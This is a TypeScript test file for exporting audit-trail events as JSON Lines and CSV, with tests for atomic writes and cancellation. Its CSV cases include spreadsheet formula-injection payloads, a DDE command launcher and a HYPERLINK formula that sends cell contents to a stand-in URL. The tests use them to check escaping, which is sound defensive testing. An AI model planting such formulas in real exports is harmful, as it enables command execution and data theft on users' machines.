import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { Cancelled } from '../../../src/base/cancellation.ts';
import { UserError } from '../../../src/base/userError.ts';
import { type ExportFormat, exportLines } from '../../../src/trail/exportEvents.ts';
import { writeExport } from '../../../src/trail/exportFile.ts';
import type { StoredEvent } from '../../../src/trail/storedEvent.ts';
import type { EventPage, EventsAsk } from '../../../src/trail/trailQueries.ts';
import { storedEvent } from '../ui/trailThings.ts';

function pagesOf(all: readonly StoredEvent[]) {
  return ({ limit, after }: EventsAsk): EventPage => {
    const first = after === undefined ? 0 : all.findIndex(({ seq }) => seq === after.seq) + 1;
    const events = all.slice(first, first + limit);
    const last = events.at(-1);
    return { events, ...(last && events.length === limit ? { next: last } : {}) };
  };
}

async function exported(all: readonly StoredEvent[], format: ExportFormat): Promise<string> {
  let whole = '';
  for await (const { text } of exportLines(pagesOf(all), {}, format)) whole += text;
  return whole;
}

describe('JSON Lines', () => {
  it('an event a line, whole, however many pages', async () => {
    const all = Array.from({ length: 1203 }, (_, seq) => storedEvent({ seq, eventId: `e-${seq}` }));
    const lines = (await exported(all, 'jsonl')).trimEnd().split('\n');
    assert.deepEqual(
      lines.map(line => JSON.parse(line).eventId),
      all.map(({ eventId }) => eventId),
    );
    const { seq: _, time, ...rest } = storedEvent({ eventId: 'e-0' });
    assert.deepEqual(JSON.parse(lines[0] ?? ''), {
      ...JSON.parse(JSON.stringify(rest)),
      time: new Date(time).toISOString(),
    });
  });

  it('of nothing is nothing', async () => assert.equal(await exported([], 'jsonl'), ''));
});

describe('CSV', () => {
  const cells = async (overrides: Partial<StoredEvent>): Promise<string> =>
    (await exported([storedEvent(overrides)], 'csv')).split('\r\n').slice(1).join('\r\n');

  it('has the names of its columns', async () =>
    assert.match(await exported([], 'csv'), /^time,accountId,region,eventId,.*\r\n$/));

  it('one line', async () =>
    assert.equal(
      await cells({}),
      '2026-03-10T10:00:00.000Z,111122223333,eu-west-1,e-1,s3.amazonaws.com,PutObject,false,,agent,copilot,alice,,exact,The ledger knows the access key.,ASIAEXAMPLE000001234,no-wing-copilot-1a2b3c4d,d-1,arn:aws:s3:::orders-bucket-1x2y3z\r\n',
    ));

  const CASES: readonly [string, string][] = [
    ['a,b', '"a,b"'],
    ['say "x"', '"say ""x"""'],
    ['two\nlines', '"two\nlines"'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://x?"&A1,"y")', `"'=HYPERLINK(""http://x?""&A1,""y"")"`],
    ['+1', "'+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['-2', "'-2"],
    ['\tx', "'\tx"],
  ];
  for (const [name, cell] of CASES)
    it(JSON.stringify(name), async () => {
      const line = await cells({ name });
      assert.ok(line.includes(`,${cell},false,`), line);
    });
});

function folder(t: TestContext): string {
  const made = mkdtempSync(join(tmpdir(), 'no-wing-export-'));
  t.after(() => rmSync(made, { recursive: true, force: true }));
  return made;
}

describe('the file', () => {
  const never = (): boolean => false;
  const pieces = [
    { text: 'a\n', events: 1 },
    { text: 'b\n', events: 1 },
  ];

  it('is whole, and tells how far it is', async t => {
    const file = join(folder(t), 'x.jsonl');
    const told: number[] = [];
    assert.equal(await writeExport(file, pieces, never, events => told.push(events)), 2);
    assert.deepEqual([readFileSync(file, 'utf8'), told], ['a\nb\n', [1, 2]]);
  });

  it('is as it was before when it is cancelled, and nothing else is left', async t => {
    const at = folder(t);
    const file = join(at, 'x.jsonl');
    writeFileSync(file, 'before');
    let asked = 0;
    await assert.rejects(
      writeExport(
        file,
        pieces,
        () => asked++ === 1,
        () => undefined,
      ),
      Cancelled,
    );
    assert.deepEqual([readFileSync(file, 'utf8'), readdirSync(at)], ['before', ['x.jsonl']]);
  });

  it('that cannot be written is told of in words', async t => {
    const file = join(folder(t), 'missing', 'x.jsonl');
    await assert.rejects(
      writeExport(file, pieces, never, () => undefined),
      (error: unknown) => error instanceof UserError && error.code === 'trail.export',
    );
    assert.equal(existsSync(file), false);
  });

  it('of what is asked in a thread: cancelled while it waits, nothing is left', async t => {
    const at = folder(t);
    const waiting = exportLines(() => Promise.reject(new Cancelled()), { text: 'x' }, 'csv');
    await assert.rejects(
      writeExport(join(at, 'x'), waiting, never, () => undefined),
      Cancelled,
    );
    assert.deepEqual(readdirSync(at), []);
  });

  it('is not begun when the index fails on the way: its error stays what it is', async t => {
    const at = folder(t);
    const failing = (async function* () {
      yield { text: 'a\n', events: 1 };
      throw new UserError('trail.indexBusy', 'busy', {});
    })();
    await assert.rejects(
      writeExport(join(at, 'x'), failing, never, () => undefined),
      (error: unknown) => error instanceof UserError && error.code === 'trail.indexBusy',
    );
    assert.deepEqual(readdirSync(at), []);
  });
});
